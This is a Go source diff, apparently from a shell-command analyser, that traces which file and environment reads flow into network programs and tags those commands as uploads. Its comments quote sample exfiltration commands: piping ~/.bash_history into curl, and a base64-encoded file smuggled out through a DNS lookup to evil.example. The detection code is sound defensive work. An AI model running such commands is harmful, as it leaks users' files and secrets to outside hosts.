@@ -1,0 +1,94 @@
+package shell
+
+import "strings"
+
+// maxCarries bounds the reads a flow tracks.
+const maxCarries = 32
+
+// carriesOf adds to carries the reads of cmds whose content goes to their
+// output: the files they read (not names only: ls, find), and the
+// environment for the programs that print it (env, printenv, export -p).
+// The result is a new slice.
+func carriesOf(carries []Effect, cmds []Command) []Effect {
+	out := append([]Effect(nil), carries...)
+	add := func(e Effect) {
+		if len(out) >= maxCarries {
+			return
+		}
+		for _, x := range out {
+			if x.Target == e.Target && x.Glob == e.Glob {
+				return
+			}
+		}
+		out = append(out, e)
+	}
+	for i := range cmds {
+		cm := &cmds[i]
+		for _, e := range cm.Effects {
+			if e.Kind == Read && !e.Meta && !e.Unknown && e.Target != "" {
+				add(Effect{Kind: Read, Target: e.Target, Glob: e.Glob, Recursive: e.Recursive})
+			}
+		}
+		if printsEnv(cm) {
+			add(Effect{Kind: Read, Target: "/proc/self/environ"})
+		}
+	}
+	return out
+}
+
+// printsEnv reports whether cm prints the environment: env or printenv
+// with no program to run, set, export -p, declare -x/-p with no names.
+func printsEnv(cm *Command) bool {
+	args := cm.Argv[min(1, len(cm.Argv)):]
+	switch cm.Name {
+	case "printenv":
+		return true
+	case "env":
+		for _, a := range args {
+			if !strings.HasPrefix(a, "-") && !strings.Contains(a, "=") {
+				return false // env runs a program
+			}
+		}
+		return true
+	case "set", "export", "declare", "typeset", "compgen":
+		for _, a := range args {
+			if !strings.HasPrefix(a, "-") {
+				return false
+			}
+		}
+		return cm.Name != "set" || len(args) == 0
+	}
+	return false
+}
+
+// flow judges what a network program sends: the reads whose content
+// reaches it through its input (a pipe, a redirection from a file) or its
+// words (a command substitution, a variable set from one) are reads it
+// makes and sends, so cat ~/.bash_history | curl -d @- … and nslookup
+// $(base64 < f).evil.example upload those files.
+func (k *call) flow() {
+	net := false
+	for _, e := range k.cmd.Effects {
+		if e.Kind == Network {
+			net = true
+			break
+		}
+	}
+	if !net {
+		return
+	}
+	srcs := append(append([]Effect(nil), k.c.stdin.carries...), k.ro.carries...)
+	for _, e := range k.ro.effs {
+		if e.Kind == Read && !e.Meta && !e.Unknown && e.Target != "" {
+			srcs = append(srcs, e) // curl -d @- … < file
+		}
+	}
+	if len(srcs) == 0 {
+		return
+	}
+	for _, e := range srcs {
+		e.Reason = "its content is sent over the network by " + k.name
+		k.eff(e)
+	}
+	k.tag(TagUpload)
+}
